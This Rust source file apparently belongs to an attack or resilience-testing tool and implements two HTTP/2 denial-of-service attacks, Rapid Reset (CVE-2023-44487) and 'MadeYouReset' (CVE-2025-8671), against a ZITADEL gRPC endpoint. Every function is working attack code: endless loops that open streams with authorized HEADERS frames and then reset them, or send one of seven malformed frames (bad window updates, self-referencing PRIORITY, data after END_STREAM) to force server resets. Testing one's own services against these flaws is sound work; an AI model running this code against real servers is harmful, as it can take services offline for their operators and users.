//! Streams that end right after they begin, reset by the client or by the server.

use std::io;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::attack::attacker::Attack;
use crate::attack::frames::{Block, END_STREAM, Frames, PRIORITY};
use crate::attack::wire::{Pace, Wire};

pub const ATTACKS: [Attack; 2] = [
    // CVE-2023-44487
    Attack::new("rapid reset", (12_000, "resets"), 4, |wire, pace| Box::pin(rapid(wire, pace))),
    // CVE-2025-8671
    Attack::new("made you reset", (6_000, "resets"), 8, |wire, pace| Box::pin(made(wire, pace))),
];

pub const GET: &str = "/zitadel.feature.v2.FeatureService/GetInstanceFeatures";

async fn rapid(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    const BATCH: u64 = 20;
    wire.http2().await?;
    let block = Block::authorized(GET, &wire.target.token);
    loop {
        let mut frames = Frames::new();
        for _ in 0..BATCH {
            let stream = wire.stream();
            frames = frames.headers(stream, END_STREAM, &block).reset(stream);
        }
        wire.send_frames(frames).await?;
        pace.keep(BATCH).await;
    }
}

/// Each connection uses one way to make the server reset a stream: some ways cost the whole connection.
async fn made(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    const BATCH: u64 = 10;
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    type Trick = fn(Frames, u32, &Block) -> Frames;
    const TRICKS: [Trick; 7] = [
        |frames, stream, _| frames.window_update(stream, 0),
        |frames, stream, _| frames.window_update(stream, (1 << 31) - 1),
        |frames, stream, _| frames.data(stream, 0, b"more"),
        |frames, stream, _| frames.frame(PRIORITY, 0, stream, &[0; 4]),
        |frames, stream, _| frames.frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[1]].concat()),
        |frames, stream, block| frames.headers(stream, END_STREAM, block),
        |frames, stream, _| frames.data(stream, END_STREAM, b""),
    ];
    let trick = TRICKS[NEXT.fetch_add(1, Ordering::Relaxed) % TRICKS.len()];
    wire.http2().await?;
    let block = Block::authorized(GET, &wire.target.token);
    loop {
        let mut frames = Frames::new();
        for _ in 0..BATCH {
            let stream = wire.stream();
            frames = trick(frames.headers(stream, END_STREAM, &block), stream, &block);
        }
        wire.send_frames(frames).await?;
        pace.keep(BATCH).await;
    }
}
